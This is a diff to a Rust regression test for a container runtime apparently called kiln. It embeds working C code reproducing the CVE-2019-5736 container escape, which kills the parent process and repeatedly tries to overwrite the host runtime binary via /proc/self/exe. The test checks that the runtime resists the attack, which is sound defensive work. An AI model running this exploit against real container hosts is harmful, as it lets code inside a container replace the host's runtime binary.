@@ -94,8 +94,9 @@ fn sha256(p: &Path) -> String {
 }
 
 /// A freestanding "dynamic loader": run by the kernel as the interpreter of kiln (re-loaded
-/// through `#!/proc/self/exe`), it opens /proc/self/exe (O_PATH, then for writing, and again
-/// through /proc/self/fd/N once ETXTBSY clears) and keeps trying to overwrite it for 4 s,
+/// through `#!/proc/self/exe`), it tries to write /proc/self/exe, then opens it O_PATH and
+/// execs itself as `/writer FD` (so that it no longer runs kiln), which keeps reopening
+/// /proc/self/fd/FD for writing for 4 s (ETXTBSY clears once kiln exits) and overwrites it,
 /// logging to /pwn.log. With /kill-parent in the rootfs it first kills its parent (kiln).
 const LOADER: &str = r#"
 typedef unsigned long u64;
@@ -115,29 +116,45 @@ static void num(long v) {
     if (neg) b[--i] = '-';
     say(b + i);
 }
-void cmain(void) {
+static void itoa(long v, char *out) {
+    char t[24]; int n = 0; do { t[n++] = '0' + v % 10; v /= 10; } while (v);
+    while (n) *out++ = t[--n]; *out = 0;
+}
+void cmain(long *sp) {
+    long argc = sp[0];
+    char **argv = (char **)(sp + 1);
     logfd = sc(2, (long)"/pwn.log", 02000 | 01 | 0100, 0644, 0); /* O_APPEND|O_WRONLY|O_CREAT */
+    if (argc == 2 && argv[1][0] >= '0' && argv[1][0] <= '9') {
+        /* Writer: no longer running kiln, so ETXTBSY clears once kiln's processes are gone. */
+        char path[40] = "/proc/self/fd/";
+        int i = 0; while (argv[1][i]) { path[14 + i] = argv[1][i]; i++; } path[14 + i] = 0;
+        long err = 0;
+        for (int k = 0; k < 400; k++) {
+            long fd = sc(2, (long)path, 01, 0, 0);
+            if (fd >= 0) {
+                if (sc(18, fd, (long)"PWNED", 5, 0) == 5) { say("WROTE\n"); sc(231, 0, 0, 0, 0); }
+                sc(3, fd, 0, 0, 0);
+            } else err = fd;
+            struct { long s, ns; } ts = { 0, 10000000 };
+            sc(35, (long)&ts, 0, 0, 0);
+        }
+        say("failed "); num(err); say("\n");
+        sc(231, 0, 0, 0, 0);
+    }
+    /* Loader: run by the kernel as the interpreter of kiln, reached through /proc/self/exe. */
     say("start\n");
     if (sc(21, (long)"/kill-parent", 0, 0, 0) == 0) { sc(62, sc(110, 0, 0, 0, 0), 9, 0, 0); }
-    long pfd = sc(2, (long)"/proc/self/exe", 010000000, 0, 0); /* O_PATH */
-    char path[32] = "/proc/self/fd/";
-    { int i = 14; long v = pfd; char t[12]; int n = 0; do { t[n++] = '0' + v % 10; v /= 10; } while (v);
-      while (n) path[i++] = t[--n]; path[i] = 0; }
-    long err = 0;
-    for (int i = 0; i < 400; i++) {
-        long fd = sc(2, (long)"/proc/self/exe", 01, 0, 0);
-        if (fd < 0 && pfd >= 0) fd = sc(2, (long)path, 01, 0, 0);
-        if (fd >= 0) {
-            if (sc(18, fd, (long)"PWNED", 5, 0) == 5) { say("WROTE\n"); sc(231, 0, 0, 0, 0); }
-            sc(3, fd, 0, 0, 0);
-        } else err = fd;
-        struct { long s, ns; } ts = { 0, 10000000 };
-        sc(35, (long)&ts, 0, 0, 0);
-    }
-    say("failed "); num(err); say("\n");
+    long direct = sc(2, (long)"/proc/self/exe", 01, 0, 0);
+    if (direct >= 0 && sc(18, direct, (long)"PWNED", 5, 0) == 5) { say("WROTE\n"); sc(231, 0, 0, 0, 0); }
+    long pfd = sc(2, (long)"/proc/self/exe", 010000000, 0, 0); /* O_PATH, inherited */
+    char num_s[24]; itoa(pfd, num_s);
+    char *nargv[3] = { "/writer", num_s, 0 };
+    char *nenv[1] = { 0 };
+    sc(59, (long)"/writer", (long)nargv, (long)nenv, 0);
+    say("failed exec writer\n");
     sc(231, 0, 0, 0, 0);
 }
-__asm__(".globl _start\n_start:\n xor %rbp,%rbp\n and $-16,%rsp\n call cmain\n hlt\n");
+__asm__(".globl _start\n_start:\n xor %rbp,%rbp\n mov %rsp,%rdi\n and $-16,%rsp\n call cmain\n hlt\n");
 "#;
 
 /// The CVE-2019-5736 setup: a bundle whose rootfs holds the loader at kiln's PT_INTERP path
@@ -152,7 +169,10 @@ impl Cve {
     fn new(args: &[&str]) -> Option<Cve> {
         let b = writable_bundle(args);
         let kiln = b.sb.dir.path().join("kiln-copy");
-        std::fs::copy(env!("CARGO_BIN_EXE_kiln"), &kiln).expect("copy kiln");
+        // KILN_ATTACKED_BIN: another kiln build to attack (to see the test catch the bug).
+        let src = std::env::var_os("KILN_ATTACKED_BIN")
+            .map_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_kiln")), PathBuf::from);
+        std::fs::copy(&src, &kiln).expect("copy kiln");
         let rootfs = b.dir.join("rootfs");
         let interp = rootfs.join(interp_of(&kiln).strip_prefix("/").expect("absolute interp"));
         std::fs::create_dir_all(interp.parent().expect("parent")).expect("interp dir");
@@ -168,6 +188,7 @@ impl Cve {
                 "-O1",
             ],
         )?;
+        std::fs::copy(&interp, rootfs.join("writer")).expect("copy writer");
         let evil = rootfs.join("evil");
         std::fs::write(&evil, "#!/proc/self/exe\n").expect("write evil");
         std::fs::set_permissions(&evil, std::fs::Permissions::from_mode(0o755)).expect("chmod");
@@ -208,8 +229,9 @@ impl Cve {
             "the kiln binary was overwritten: {text:?}"
         );
         assert!(
-            text.contains("failed"),
-            "the loader did not finish: {text:?}"
+            // -30 = EROFS: the copy kiln runs from is read-only, not merely busy (ETXTBSY).
+            text.contains("failed -30"),
+            "the loader did not fail on a read-only exe: {text:?}"
         );
         assert_eq!(sha256(&self.kiln), self.before, "the kiln binary changed");
     }
